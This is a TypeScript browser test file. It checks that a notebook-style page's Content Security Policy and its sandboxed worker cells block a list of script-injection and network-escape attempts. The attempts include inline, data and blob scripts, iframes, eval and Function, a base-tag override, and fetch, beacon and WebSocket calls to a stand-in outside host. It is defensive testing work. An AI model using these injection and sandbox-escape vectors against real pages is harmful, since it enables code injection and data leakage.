import assert from "node:assert/strict";
import { cell, edit, open, state } from "./chapter.ts";
import { CHAPTER, chapterTest } from "./fixture.ts";

const BLOCKED = /Content Security Policy|violates|ERR_BLOCKED/i;

/** Ways to run a text in the page; each sets a name when it works. */
const IN_PAGE = `
  const put = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
  put("script", { textContent: "ran.push('inline script')" });
  put("script", { src: "data:text/javascript,ran.push('data script')" });
  put("script", { src: URL.createObjectURL(new Blob(["ran.push('blob script')"])) });
  put("script", { src: "https://elsewhere.example/x.js" });
  put("iframe", { srcdoc: "<script>parent.ran.push('frame')</" + "script>" });
  put("object", { data: "data:text/html,x" });
  put("base", { href: "https://elsewhere.example/" });
  const button = document.createElement("button");
  button.setAttribute("onclick", "ran.push('handler')");
  button.click();
  try { setTimeout("ran.push('timer')"); } catch {}
  try { new Function("ran.push('function')")(); } catch {}
  try { (0, eval)("ran.push('eval')"); } catch {}
  try { new Worker(URL.createObjectURL(new Blob([""]))).onerror = () => {}; } catch {}
  fetch("https://elsewhere.example/").then(() => ran.push("fetch"), () => {});
  navigator.sendBeacon("https://elsewhere.example/");
  if (document.baseURI !== location.href) ran.push("base");
`;

chapterTest("the policy of a page stops every text that wants to run", async ({ page, url }) => {
  // The attacks stand in a script of the host itself, because the page allows no other.
  await page.route(
    "**/attack.js",
    (route) =>
      route.fulfill({ contentType: "text/javascript", body: `globalThis.ran = [];${IN_PAGE}` }),
  );
  await open(page, url + CHAPTER);
  await page.evaluate(() =>
    new Promise((resolve) => {
      const script = Object.assign(document.createElement("script"), { src: "attack.js" });
      script.onload = resolve;
      document.head.append(script);
    })
  );
  await page.waitForTimeout(500);
  assert.deepEqual(await page.evaluate(() => (globalThis as unknown as { ran: string[] }).ran), []);
}, { expected: BLOCKED, outside: "refused" });

/** Ways out of a worker; each prints whether it worked. */
const IN_WORKER = `const ways = {
  evaluates: () => (0, eval)("6 * 7"),
  imports: () => (0, eval)('import("https://elsewhere.example/x.js")'),
  importsData: () => (0, eval)('import("data:text/javascript,export default 1")'),
  fetches: () => fetch("https://elsewhere.example/"),
  fetchesByTrick: () => {
    String.prototype.startsWith = () => true;
    return fetch("https://elsewhere.example/");
  },
  asksSocket: () => new WebSocket("wss://elsewhere.example/"),
  startsWorker: () => new Worker(URL.createObjectURL(new Blob([""]))),
  stores: () => indexedDB.open("x"),
};
for (const [name, way] of Object.entries(ways)) {
  try {
    await way();
    console.log(name);
  } catch {
    console.log("not " + name);
  }
}`;

chapterTest("a cell evaluates text, and finds no way to another host", async ({ page, url }) => {
  await open(page, url + CHAPTER);
  await edit(page, "running-example", IN_WORKER);
  await page.keyboard.press("Shift+Enter");
  await state(page, "running-example", "ran");
  const printed = await cell(page, "running-example").locator(".outputs").innerText();
  assert.deepEqual(printed.trim().split("\n"), [
    "evaluates",
    "not imports",
    "not importsData",
    "not fetches",
    "not fetchesByTrick",
    "not asksSocket",
    "not startsWorker",
    "not stores",
  ]);
}, { expected: BLOCKED, outside: "refused" });
